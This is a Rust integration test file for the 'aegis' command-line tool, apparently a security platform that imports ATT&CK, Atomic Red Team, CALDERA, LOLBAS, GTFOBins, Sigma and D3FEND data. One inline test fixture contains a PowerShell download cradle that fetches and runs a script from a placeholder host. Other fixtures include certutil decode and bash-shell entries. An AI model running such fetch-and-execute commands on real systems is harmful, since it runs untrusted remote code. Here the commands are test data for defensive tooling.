//! The `aegis` binary's subcommands, run as a user would run them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write;
use std::process::{Command, Stdio};

fn aegis(data_dir: &std::path::Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_aegis"));
    command
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("AEGIS_DATA_DIR", data_dir)
        .env("RUST_LOG", "warn");
    command
}

#[test]
fn migrate_and_create_user_from_stdin() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let output = aegis(&dir).arg("migrate").output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        dir.join("aegis.db").exists(),
        "the embedded database lives in the data directory"
    );

    let mut child = aegis(&dir)
        .args([
            "create-user",
            "--username",
            "Grace",
            "--role",
            "blue_lead",
            "--display-name",
            "Grace H.",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"grace-password-1\n")
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(String::from_utf8_lossy(&output.stdout).contains("Created user grace (blue_lead)"));

    // The same username again, through the environment this time: refused, nothing changed.
    let output = aegis(&dir)
        .args(["create-user", "--username", "grace", "--role", "viewer"])
        .env("AEGIS_NEW_USER_PASSWORD", "another-password-1")
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("already exists"));

    let output = aegis(&dir)
        .args(["create-user", "--username", "heidi", "--role", "wizard"])
        .env("AEGIS_NEW_USER_PASSWORD", "heidi-password-1")
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("Unknown role 'wizard'"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn production_refuses_to_start_without_a_secret() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let output = aegis(&dir)
        .arg("serve")
        .env("AEGIS_ENV", "production")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("AEGIS_SECRET_KEY must be set"));
    assert!(
        !dir.exists(),
        "nothing is written before the configuration is valid"
    );
}

#[test]
fn first_start_prints_the_url_and_a_one_time_password() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let mut child = aegis(&dir)
        .arg("serve")
        .env("AEGIS_BIND", "127.0.0.1:0")
        .env("AEGIS_SITE_ROOT", &dir)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut lines = Vec::new();
    for _ in 0..5 {
        let mut line = String::new();
        std::io::BufRead::read_line(&mut stdout, &mut line).unwrap();
        lines.push(line);
    }
    child.kill().unwrap();
    let _ = child.wait();
    let text = lines.concat();
    assert!(
        text.contains("Aegis is running at http://127.0.0.1:"),
        "{text}"
    );
    assert!(text.contains("username: admin"), "{text}");
    let password = text
        .lines()
        .find_map(|l| l.trim().strip_prefix("password: "))
        .unwrap();
    assert!(
        password.len() >= 16,
        "a strong generated password: {password}"
    );
    let secret = std::fs::read_to_string(dir.join("secret.key")).unwrap();
    assert!(secret.len() >= 32);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(dir.join("secret.key"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o777,
            0o600,
            "the signing secret is readable by its owner only"
        );
    }
    assert!(dir.join("evidence").is_dir());
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn import_attack_reports_progress_and_what_changed() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let fixture =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/attack-mini.json");
    let output = aegis(&dir)
        .arg("import-attack")
        .arg(&fixture)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(stdout.contains("Importing "), "{stdout}");
    // Not a terminal here, so each stage is one plain line rather than a redrawn bar.
    assert!(stdout.contains("Parsing"), "{stdout}");
    assert!(
        stdout.contains("Tactics: 3 added, 0 updated. Techniques: 7 added"),
        "{stdout}"
    );

    // Again: nothing changes.
    let output = aegis(&dir)
        .arg("import-attack")
        .arg(&fixture)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success());
    assert!(
        stdout.contains("Techniques: 0 added, 0 updated, 7 unchanged"),
        "{stdout}"
    );

    // A file that is not STIX: a clear error and a failing exit status.
    let broken = dir.join("broken.json");
    std::fs::write(&broken, b"{\"type\": \"bundle\", \"objects\": [").unwrap();
    let output = aegis(&dir)
        .arg("import-attack")
        .arg(&broken)
        .output()
        .unwrap();
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.to_lowercase().contains("json"), "{stderr}");
    let output = aegis(&dir)
        .arg("import-attack")
        .arg(dir.join("missing.json"))
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("cannot read"));
    let _ = std::fs::remove_dir_all(&dir);
}

const ATOMIC: &str = r#"attack_technique: T1059.001
display_name: 'Command and Scripting Interpreter: PowerShell'
atomic_tests:
- name: Download cradle
  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
  description: |
    Downloads a script.
  supported_platforms:
  - windows
  input_arguments:
    url:
      description: Where from
      type: url
      default: https://example.test/a.ps1
  executor:
    command: |
      powershell.exe "IEX (New-Object Net.WebClient).DownloadString('#{url}')"
    name: command_prompt
- name: By hand
  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11
  description: Follow the steps
  supported_platforms:
  - linux
  executor:
    steps: |
      1. ls
    name: manual
"#;

fn import_atomics(
    dir: &std::path::Path,
    database_url: Option<&str>,
    source: &std::path::Path,
) -> (bool, String) {
    let mut command = aegis(dir);
    if let Some(url) = database_url {
        command.env("DATABASE_URL", url);
    }
    let output = command.arg("import-atomics").arg(source).output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    (output.status.success(), text)
}

/// The same import story on the embedded database and on PostgreSQL.
fn atomics_import_story(database_url: Option<&str>) {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let source = dir.join("atomic-red-team");
    let atomic = source.join("atomics/T1059.001/T1059.001.yaml");
    std::fs::create_dir_all(atomic.parent().unwrap()).unwrap();
    std::fs::write(&atomic, ATOMIC).unwrap();
    std::fs::create_dir_all(source.join("atomics/T1000")).unwrap();
    std::fs::write(
        source.join("atomics/T1000/T1000.yaml"),
        "attack_technique: T1000\natomic_tests:\n- name: x\n  executor: [unclosed\n",
    )
    .unwrap();
    std::fs::write(source.join("atomics/T1000/notes.md"), "not an atomic").unwrap();

    let (ok, text) = import_atomics(&dir, database_url, &source);
    assert!(ok, "{text}");
    assert!(
        text.contains("Templates: 2 added, 0 updated, 0 unchanged. Files: 2 read, 1 skipped."),
        "{text}"
    );
    assert!(
        text.contains("skipped atomics/T1000/T1000.yaml: line 4: "),
        "the broken file is named with its line: {text}"
    );
    assert!(text.contains("not in the ATT&CK knowledge base"), "{text}");

    // Again: nothing changes. Then upstream edits one command: one update.
    let (ok, text) = import_atomics(&dir, database_url, &source);
    assert!(ok);
    assert!(
        text.contains("Templates: 0 added, 0 updated, 2 unchanged."),
        "{text}"
    );
    std::fs::write(&atomic, ATOMIC.replace("1. ls", "1. ls -la")).unwrap();
    let (ok, text) = import_atomics(&dir, database_url, &source.join("atomics"));
    assert!(ok);
    assert!(
        text.contains("Templates: 0 added, 1 updated, 1 unchanged."),
        "{text}"
    );

    let (ok, text) = import_atomics(&dir, database_url, &dir.join("nowhere"));
    assert!(!ok);
    assert!(text.contains("cannot read"), "{text}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn import_atomics_on_sqlite() {
    atomics_import_story(None);
}

#[test]
fn import_atomics_on_postgres() {
    let name = format!("aegis_cli_{}", uuid::Uuid::new_v4().simple());
    let psql = |sql: &str| {
        let status = Command::new("psql")
            .args(["-h", "127.0.0.1", "-U", "postgres", "-qc", sql])
            .status()
            .expect("psql is needed for the PostgreSQL CLI test");
        assert!(status.success(), "{sql}");
    };
    psql(&format!("CREATE DATABASE {name}"));
    let result = std::panic::catch_unwind(|| {
        atomics_import_story(Some(&format!("postgres://postgres@127.0.0.1:5432/{name}")))
    });
    psql(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"));
    if let Err(panic) = result {
        std::panic::resume_unwind(panic);
    }
}

/// All of Atomic Red Team, when the shared data is present: every atomic becomes a template.
#[test]
fn import_atomics_the_real_catalog() {
    let source =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/atomic-red-team");
    if !source.join("atomics").is_dir() {
        eprintln!("skipping: {} is not present", source.display());
        return;
    }
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let (ok, text) = import_atomics(&dir, None, &source);
    assert!(ok, "{text}");
    assert!(
        text.contains("Templates: 1819 added, 0 updated, 0 unchanged. Files: 341 read, 0 skipped."),
        "{text}"
    );
    let (ok, text) = import_atomics(&dir, None, &source);
    assert!(ok);
    assert!(
        text.contains("Templates: 0 added, 0 updated, 1819 unchanged."),
        "{text}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `aegis import-caldera|import-lolbas|import-gtfobins|import-sigma|import-d3fend PATH`: the other sources from a
/// checkout, with the same report (CALDERA's technique sets included).
#[test]
fn import_the_other_catalog_sources_from_a_path() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let write = |path: &str, text: &str| {
        let path = dir.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write(
        "stockpile/data/abilities/discovery/a1.yml",
        "- id: a1\n  name: Who am I\n  tactic: discovery\n  technique: {attack_id: T1033, name: Owner}\n  platforms: {linux: {sh: {command: whoami}}}\n",
    );
    write(
        "stockpile/data/adversaries/x.yml",
        "id: x\nname: Curious\natomic_ordering: [a1]\n",
    );
    write(
        "LOLBAS/yml/OSBinaries/Certutil.yml",
        "Name: Certutil.exe\nCommands:\n  - Command: certutil -decode a b\n    Description: Decode\n    MitreID: T1140\n",
    );
    write(
        "GTFOBins/_gtfobins/bash",
        "---\nfunctions:\n  shell:\n  - code: bash\n    contexts:\n      sudo:\n      unprivileged:\n...\n",
    );
    write(
        "sigma/rules/windows/r.yml",
        "title: Whoami\nid: 5f8e0000-0000-4000-8000-000000000001\ntags: [attack.t1033]\nlogsource: {product: windows}\ndetection: {sel: {Image|endswith: whoami.exe}, condition: sel}\nlevel: low\n",
    );
    write(
        "d3fend.ttl",
        "@prefix : <http://d3fend.mitre.org/ontologies/d3fend.owl#> .\n@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n@prefix owl: <http://www.w3.org/2002/07/owl#> .\n:DigitalArtifact rdfs:label \"Digital Artifact\" .\n:Process rdfs:subClassOf :DigitalArtifact .\n:Evict rdfs:label \"Evict\" .\n:ProcessTermination rdfs:label \"Process Termination\" ; :d3fend-id \"D3-PT\" ; :enables :Evict ;\n    rdfs:subClassOf [ a owl:Restriction ; owl:onProperty :terminates ; owl:someValuesFrom :Process ] .\n:T1033 :attack-id \"T1033\" ;\n    rdfs:subClassOf [ a owl:Restriction ; owl:onProperty :creates ; owl:someValuesFrom :Process ] .\n",
    );
    write(
        "elastic/rules/linux/c.toml",
        "[rule]\nrule_id = 'e1'\nname = 'Cron'\nquery = 'x'\n[[rule.threat]]\nframework = 'MITRE ATT&CK'\n[[rule.threat.technique]]\nid = 'T1053'\n",
    );
    for (command, folder, expected) in [
        (
            "import-sigma",
            "sigma",
            "1 files: 1 rules added, 0 updated, 0 unchanged, 0 skipped.",
        ),
        (
            "import-elastic-rules",
            "elastic",
            "1 files: 1 rules added, 0 updated, 0 unchanged, 0 skipped.",
        ),
        (
            "import-d3fend",
            "d3fend.ttl",
            "Countermeasures 1 added, 0 updated, 0 unchanged, 0 removed, for 1 of the 1 ATT&CK techniques",
        ),
        (
            "import-caldera",
            "stockpile",
            "Templates: 1 added, 0 updated, 0 unchanged. Files: 2 read, 0 skipped.",
        ),
        (
            "import-lolbas",
            "LOLBAS",
            "Templates: 1 added, 0 updated, 0 unchanged. Files: 1 read, 0 skipped.",
        ),
        (
            "import-gtfobins",
            "GTFOBins",
            "Templates: 2 added, 0 updated, 0 unchanged. Files: 1 read, 0 skipped.",
        ),
    ] {
        let output = aegis(&dir)
            .arg(command)
            .arg(dir.join(folder))
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(output.status.success(), "{command}: {text}");
        assert!(text.contains(expected), "{command}: {text}");
        if command == "import-caldera" {
            assert!(text.contains("Technique sets: 1 added"), "{text}");
        }
    }
    let output = aegis(&dir)
        .arg("import-lolbas")
        .arg(dir.join("stockpile"))
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("no LOLBAS files"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn seed_demo_refuses_to_run_in_production() {
    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
    let output = aegis(&dir)
        .arg("seed-demo")
        .env("AEGIS_ENV", "production")
        .env("AEGIS_SECRET_KEY", "x".repeat(48))
        .output()
        .unwrap();
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("refuses to run with AEGIS_ENV=production"),
        "{stderr}"
    );
    assert!(
        !dir.join("aegis.db").exists(),
        "no database was touched, let alone filled"
    );
}
